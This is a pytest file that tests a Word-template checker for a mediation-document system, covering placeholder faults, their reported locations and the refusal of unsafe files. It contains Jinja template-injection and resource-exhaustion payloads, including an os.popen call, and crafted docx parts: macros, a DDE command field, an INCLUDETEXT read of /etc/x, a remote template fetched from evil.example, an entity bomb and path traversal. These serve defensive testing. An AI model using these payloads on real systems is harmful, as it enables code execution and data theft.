"""The check of a template: faults named with their place, hostile ones refused, ours all fit."""

import io
import random
import zipfile

import pytest

from mediation_desk.documents.form_snippets import Snippet
from mediation_desk.documents.registered import every_form, shipped
from mediation_desk.documents.template_check import LARGEST, check, fields, pieces
from tests.documents.samples import printed
from tests.documents.word_files import par, row, tbl, word_file

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def told(centre, body, code="D-08", **parts):
    """Return what the check says, as people read it."""
    return [r.sentence for r in check(code, word_file(body, **parts), centre).remarks]


@pytest.mark.parametrize("form", every_form(), ids=lambda form: form.code)
def test_our_own_templates_are_fit_and_shown_filled(form, centre):
    checked = check(form.code, form.path.read_bytes(), centre)

    assert checked.remarks == ()
    assert checked.pdf.startswith(b"%PDF")


@pytest.mark.parametrize("form", every_form(), ids=lambda form: form.code)
def test_every_field_has_an_explanation(form, centre):
    def lacking(found):
        for field in found:
            if not field.told:
                yield field.name
            yield from lacking(field.inner)

    assert list(lacking(fields(form.code, centre))) == []


def test_a_sound_template_is_shown_filled_with_the_example(centre):
    checked = check("D-08", word_file(par("自制通知 {{ 案号 }} {{ 申请人简称 }}")), centre)

    assert checked.fit
    assert "自制通知示劳调字〔2026〕第0001号张示例等3人" in printed(checked.pdf)


FAULTS = [
    (par("{{ 申请人减称 }}"), "第1段", "申请人简称"),
    (par("甲") + par("{{ 机构名 }}"), "第2段", "机构名"),
    (par("{{ 信用代码 }}"), "第1段", "属于“被申请人”"),
    (par("{{ 完全没有的东西 }}"), "第1段", "没有“完全没有的东西”"),
    (par("{{ 申请人 }}"), "第1段", "是一组"),
    (par("{{ 被申请人 }}"), "第1段", "被申请人.名称"),
    (par("{{ 多人 }}"), "第1段", "是或者否"),
    (par("{{ 申请人.姓名 }}"), "第1段", "一组"),
    (par("{% for 人 in 申请人 %}{{ 人.姓各 }}{% endfor %}"), "第1段", "姓名"),
    (par("{% for 字 in 案号 %}{{ 字 }}{% endfor %}"), "第1段", "不是一组"),
    (par("{% for 人 in 申请人 %}{{ 人.姓名 }}"), "第1段", "endfor"),
    (par("{%p if 多人 %}") + par("甲"), "第1段", "{%p endif %}"),
    (par("{% endif %}"), "第1段", "开头"),
    (par("{% else %}"), "第1段", "开头"),
    (par("{% if 多人 %}{% endfor %}{% endif %}"), "第1段", "endfor"),
    (par("{{ 案号"), "第1段", "没有"),
    (par("案号 }}"), "第1段", "没有"),
    (par("｛｛ 案号 ｝｝"), "第1段", "全角"),
    (par("{ 案号 }"), "第1段", "两个半角花括号"),
    (par("{ {案号} }"), "第1段", "即{{ 案号 }}"),
    (par("{案号｝"), "第1段", "即{{ 案号 }}"),
    (par("{{ }}"), "第1段", "空"),
    (par("{{ 案号 案由 }}"), "第1段", "无法读懂"),
    (par("{%tr for 人 in 申请人 %}"), "第1段", "表格"),
    (tbl(row("甲", "乙") + row("丙", "{{ 案好 }}")), "表格1第2行第2格", "案号"),
    (
        tbl(row("{%tr for 人 in 申请人 %}") + row("{{ 人.姓名 }}") + row("{% endfor %}")),
        "表格1第3行第1格",
        "{%tr endfor %}",
    ),
]


@pytest.mark.parametrize(("body", "place", "words"), FAULTS, ids=range(len(FAULTS)))
def test_a_fault_is_one_sentence_with_its_place_and_the_template_is_not_fit(
    body, place, words, centre
):
    checked = check("D-08", word_file(body), centre)

    assert not checked.fit
    assert any(place in r.sentence and words in r.sentence for r in checked.grave), checked.remarks
    assert all("{name}" not in r.sentence and "\n" not in r.sentence for r in checked.remarks)


def test_a_field_that_the_form_lacks_is_marked_in_the_sample_where_it_stands(centre):
    found = check("D-08", word_file(par("因{{ 按由 }}，{{ 案号 }}")), centre)

    assert not found.fit
    assert "是否应为“案由”" in found.grave[0].told
    assert "因【按由？】，示劳调字" in printed(found.pdf)
    unended = word_file(par("{{ 按由 }}{% if 多人 %}"))
    assert check("D-08", unended, centre).pdf == b""


def test_quotes_that_word_curled_are_read_as_straight_ones(centre):
    checked = check("D-08", word_file(par("{{ 案号 }}{% if 案由 == “甲” %}乙{% endif %}")), centre)

    assert checked.fit


def test_faults_in_headers_name_the_header(centre):
    header = f"<w:hdr {_W}>{par('{{ 案浩 }}')}</w:hdr>"

    [remark] = [r for r in told(centre, par("文"), header1=header) if "案号" in r]

    assert remark.startswith("页眉")


HOSTILE = [
    "{{ ''.__class__.__mro__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ 案号.__class__ }}",
    "{{ 案号['__class__'] }}",
    "{{ self }}",
    "{{ 案号|attr('__class__') }}",
    "{{ 案号.format(案号) }}",
    "{{ 'a' * 100000000 }}",
    "{{ range(10**9) }}",
    "{{ lipsum(1000000) }}",
    "{% for i in range(10**7) %}{% endfor %}",
    "{% set x = 案号 %}",
    "{% include 'x' %}",
    "{% import 'os' as os %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% for 人 in 申请人 recursive %}{{ loop(申请人) }}{% endfor %}",
    "{% raw %}{{ 案号 }}{% endraw %}",
    "{{ _blanks }}",
    "{{ " + "(" * 4000 + "案号" + ")" * 4000 + " }}",
    "{{ " + "9" * 5000 + " }}",
    "{% if 多人 %}" * 3000 + "{% endif %}" * 3000,
    "{% for 甲 in 申请人 %}{% for 乙 in 申请人 %}{% for 丙 in 申请人 %}"
    "{{ 丙.姓名 }}{% endfor %}{% endfor %}{% endfor %}",
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:30])
def test_a_template_that_would_run_or_exhaust_is_refused_and_does_nothing(text, centre):
    checked = check("D-08", word_file(par(text.replace("'", "&apos;"))), centre)

    assert not checked.fit
    assert checked.pdf == b""


def packed(parts):
    """Return a Word file of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def body(inner):
    return f"<w:document {_W}><w:body>{inner}</w:body></w:document>"


_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
_FETCHED = (
    '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm"'
    ' TargetMode="External"/></Relationships>'
)
_ENTITY = '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
DANGEROUS = {
    "macros": {"word/document.xml": body(par("文")), "word/vbaProject.bin": b"x"},
    "an embedded program": {
        "word/document.xml": body(par("文")),
        "word/embeddings/oleObject1.bin": b"x",
    },
    "a template from the net": {
        "word/document.xml": body(par("文")),
        "word/_rels/settings.xml.rels": _RELS.format(_FETCHED),
    },
    "a command": {
        "word/document.xml": body(
            '<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd "/k"'
            "</w:instrText></w:r></w:p>"
        )
    },
    "a file that is read": {
        "word/document.xml": body(
            '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/x&quot; "/></w:p>'
        )
    },
    "entities": {"word/document.xml": _ENTITY + body(par("&b;"))},
    "a path upwards": {"word/document.xml": body(par("文")), "../../x.xml": b"x"},
    "a bomb": {"word/document.xml": b" " * (65 << 20)},
    "no document": {"word/styles.xml": b"<x/>"},
    "no text": {"word/document.xml": b"\xff\xfe<x>"},
    "broken marks": {"word/document.xml": b"<w:document><w:body>{{ x }}"},
}


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_file_with_more_than_text_is_refused_with_a_sentence(name, centre):
    checked = check("D-08", packed(DANGEROUS[name]), centre)

    assert not checked.fit
    assert all(r.sentence for r in checked.remarks)


def test_broken_styles_are_told_as_what_they_are(centre):
    parts = {
        "word/document.xml": body(par("{{ 案号 }}")),
        "word/styles.xml": b"<w:styles <w:style>",
    }

    [remark] = check("D-08", packed(parts), centre).remarks

    assert remark.sentence == "这不是可以读取的Word文件（.docx）。"


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.4", b"\xd0\xcf\x11\xe0" * 99])
def test_what_is_no_word_file_is_refused(data, centre):
    assert not check("D-08", data, centre).fit


def test_a_file_that_is_too_large_is_refused_before_it_is_read(centre):
    [remark] = check("D-08", b"x" * (LARGEST + 1), centre).remarks

    assert "5" in remark.sentence


def test_a_sound_template_with_bytes_changed_never_breaks_the_check(centre):
    sound = shipped("D-08").path.read_bytes()
    chance = random.Random(7)

    for _turn in range(40):
        hurt = bytearray(sound)
        for _byte in range(chance.randint(1, 30)):
            hurt[chance.randrange(len(hurt))] = chance.randrange(256)
        check("D-08", bytes(hurt), centre)


def test_lesser_faults_warn_and_the_template_stays_fit(centre):
    note = f"<w:footnotes {_W}/>"
    marked = '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p><w:p><w:del w:id="1"/></w:p>'

    checked = check("D-08", word_file(par("{{ 案号 }}") + marked, footnotes=note), centre)

    assert checked.fit
    text = "".join(r.sentence for r in checked.remarks)
    assert "脚注" in text
    assert "修订" in text
    assert "不再印出" in text


def test_a_template_of_word_on_the_same_computer_is_remarked_a_picture_from_the_net_refused(centre):
    def remarks(kind, target):
        relation = (
            f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}"'
            ' TargetMode="External"/></Relationships>'
        )
        made = packed(
            {
                "word/document.xml": body(par("{{ 案号 }}")),
                "word/_rels/settings.xml.rels": _RELS.format(relation),
            }
        )
        return check("D-08", made, centre)

    assert remarks("attachedTemplate", "file:///C:\\Users\\w\\Normal.dotm").fit
    assert remarks("hyperlink", "http://www.example.cn").fit
    assert not remarks("image", "http://evil.example/a.png").fit
    assert not remarks("attachedTemplate", "file://server/share/a.dotm").fit
    assert not remarks("attachedTemplate", "\\\\server\\share\\a.dotm").fit


def test_a_character_that_no_font_has_is_named_before_the_template_is_taken(centre):
    [remark] = check("D-08", word_file(par("{{ 案号 }}\U0010fffd")), centre).grave

    assert "U+10FFFD" in remark.sentence


@pytest.mark.parametrize(
    ("data", "advice"),
    [
        (
            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
            "旧版Word、WPS格式（.doc、.wps）或者加了密码",
        ),
        (b"{\\rtf1\\ansi}", "另存为.docx"),
        (b"<html></html>", "另存为.docx"),
    ],
)
def test_a_file_of_old_word_is_told_how_to_become_a_template(centre, data, advice):
    [remark] = check("D-08", data, centre).grave

    assert advice in remark.told


def _word_field(instruction, shown):
    """A field of Word in pieces, as Word and WPS write it."""
    run = "<w:r>{}</w:r>".format
    return "<w:p>{}</w:p>".format(
        run('<w:fldChar w:fldCharType="begin"/>')
        + run(f"<w:instrText>{instruction[:3]}</w:instrText>")
        + run(f"<w:instrText>{instruction[3:]}</w:instrText>")
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run(f"<w:t>{shown}</w:t>")
        + run('<w:fldChar w:fldCharType="end"/>')
    )


@pytest.mark.parametrize("field", ["DATE", "MERGEFIELD"])
def test_a_field_that_word_fills_is_named_with_its_place(centre, field):
    [remark] = [
        said
        for said in told(centre, par("{{ 案号 }}") + _word_field(f" {field} x ", "旧"))
        if field in said
    ]

    assert remark.startswith("第2段")
    assert "栏目清单" in remark


@pytest.mark.parametrize("field", ["PAGE", "STYLEREF Title", r"REF date \h", "SEQ Comments"])
def test_what_word_takes_from_the_text_itself_is_not_named(centre, field):
    assert not [s for s in told(centre, _word_field(f" {field} ", "1")) if "Word自带的域" in s]


def test_a_field_inside_of_another_one_is_named(centre):
    inner = _word_field(" MERGEFIELD 姓名 ", "旧").removeprefix("<w:p>").removesuffix("</w:p>")
    outer = _word_field(" IF ", "旧").replace(
        '<w:r><w:fldChar w:fldCharType="separate',
        f'{inner}<w:r><w:fldChar w:fldCharType="separate',
        1,
    )

    assert any("MERGEFIELD" in said for said in told(centre, outer))


def test_a_box_of_an_old_form_is_named_as_people_know_it(centre):
    box = '<w:fldChar w:fldCharType="begin"><w:ffData><w:checkBox/></w:ffData></w:fldChar>'
    end = '<w:fldChar w:fldCharType="end"/>'
    body = f"<w:p><w:r>{box}</w:r><w:r>{end}</w:r><w:r><w:t>同意</w:t></w:r></w:p>"

    assert any("旧式窗体的复选框" in said for said in told(centre, body))


@pytest.mark.parametrize(
    ("words", "found"),
    [
        ("申请人姓名", "{{ 项.姓名 }}"),
        ("手机号", "{{ 机构电话 }}"),
        ("身份证号", "{{ 项.证件号码 }}"),
        ("公司名称", "{{ 被申请人.名称 }}"),
        ("落款日期", "{{ 出具日期 }}"),
        ("中心名称", "{{ 机构全称 }}"),
        ("被申请人 地址", "{{ 被申请人.通讯地址 }}"),
    ],
)
def test_fields_are_found_by_the_words_that_people_use(centre, words, found):
    shown = [piece.text for piece in pieces("D-08", centre) if piece.holds(words)]

    assert found in shown
    assert len(shown) <= 10


def test_a_long_word_of_like_signs_is_looked_for_at_once():
    """Each way of cutting it is not tried anew: 34 zeros took nine seconds, 200 would never end."""
    piece = Snippet(text="{{ 账号 }}", told="账号", example="6222000000000000000")

    assert piece.holds("账号0000000000")
    assert not piece.holds(f"{'0' * 200}z")
